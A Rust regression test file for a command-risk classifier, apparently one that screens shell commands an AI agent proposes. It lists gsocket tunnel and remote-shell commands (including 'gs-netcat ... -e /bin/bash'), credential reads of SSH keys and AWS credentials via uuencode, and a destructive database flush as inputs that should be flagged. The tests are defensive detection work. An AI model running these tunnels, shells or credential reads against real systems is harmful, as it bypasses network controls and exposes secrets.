//! Regression tests for session 63 (thc: The Hacker's Choice's tips and
//! tricks, measured at first contact, then mended).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use agentgate_risk::{Category, Severity};
use common::{clean, flagged_each};

/// Passed: `gs-netcat -l -S` (a SOCKS exit into this machine's network,
/// reachable through the Global Socket relay from anywhere that holds the
/// secret) and `gs-netcat -p 1080` (a tunnel into another network). Every
/// gsocket program but secret generation and help is a tunnel past the
/// network's controls.
#[test]
fn gsocket_tunnels_are_exfiltration() {
    flagged_each(
        &[
            "gs-netcat -l -S",
            "gs-netcat -p 1080",
            "gs-netcat -s MySecret -l -i",
            "gs-netcat -s MySecret -i",
            "gsocket ssh root@gsocket",
            "gsocket -s MySecret sshd",
            "gs-sftp -s MySecret",
            "gs-mount -s MySecret ~/mnt",
            "blitz -s MySecret -l",
            "./gs-netcat -k id_sec.txt -l -e /bin/bash",
        ],
        Category::Exfiltration,
        Severity::High,
    );
    for c in ["gs-netcat -g", "gs-netcat -h", "gs-netcat --help"] {
        clean(c);
    }
}

/// Asked: `uuencode /etc/issue.net issue.net-COPY` was read as handing
/// /etc to a program that may change it. uuencode reads its file and
/// prints it encoded; its second operand is only the name written in the
/// header.
#[test]
fn uuencode_reads_its_file() {
    for c in [
        "uuencode /etc/issue.net issue.net-COPY",
        "uuencode -m /etc/hostname hostname",
    ] {
        clean(c);
    }
    // Attacked as the agent: a credential store encoded is still read.
    flagged_each(
        &[
            "uuencode ~/.ssh/id_rsa id_rsa",
            "uuencode -m ~/.aws/credentials c",
        ],
        Category::CredentialAccess,
        Severity::High,
    );
}

/// Asked: `perl -i -0777 -pe 's/UPX!/\0\0\0\0/sg' "${BIN}"` was read as
/// running `sg` (the code's last path part) with the word `"${BIN}"`: the
/// script an interpreter runs was taken as its first operand, though a
/// code option before it made that operand the code.
#[test]
fn inline_code_is_not_a_script_file() {
    for c in [
        "perl -i -0777 -pe 's/UPX!/\\0\\0\\0\\0/sg' \"${BIN}\"",
        "perl -pe 's/a/b/sg' \"$B\" x",
        "python3 -c 'print(1)' /usr/bin/sg \"$X\"",
        "ruby -e 'puts 1' sg \"$X\"",
    ] {
        clean(c);
    }
    // Attacked as the agent: a script file named after a known tool still
    // gets that tool's row, code options after it belong to the script.
    flagged_each(
        &["python3 manage.py flush --noinput -c x"],
        Category::Destructive,
        Severity::Medium,
    );
    flagged_each(
        &["perl -w sg \"$X\""],
        Category::Unverifiable,
        Severity::Medium,
    );
}
